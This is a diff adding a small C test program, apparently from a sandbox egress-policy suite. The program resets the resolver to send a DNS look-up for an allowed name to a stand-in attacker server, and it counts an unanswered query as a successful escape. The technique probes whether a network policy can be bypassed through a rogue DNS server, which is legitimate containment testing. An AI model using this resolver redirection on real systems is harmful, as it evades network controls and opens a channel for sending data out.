@@ -1,0 +1,23 @@
+// class: network
+// rule: outbound_connectivity
+// policy: names.yaml
+// success: a C program has a server of the attacker's own asked for an allowed name, and may believe its answer
+// proof: udp
+// needs: resolver
+// quiet: the system's server is asked in place of the attacker's, and the look-up works
+#include "attack.h"
+#include <netdb.h>
+#include <resolv.h>
+
+int main(void)
+{
+    struct addrinfo *found;
+    res_init();
+    _res.nscount = 1;
+    _res.nsaddr_list[0] = endpoint("ATTACK_SINK_UDP");
+    _res.retrans = 1;
+    _res.retry = 1;
+    /* Nobody answers there: to have asked is success. */
+    int error = getaddrinfo("api.allowed.example", "443", NULL, &found);
+    return error == EAI_AGAIN ? reached() : stopped("the look-up was answered");
+}
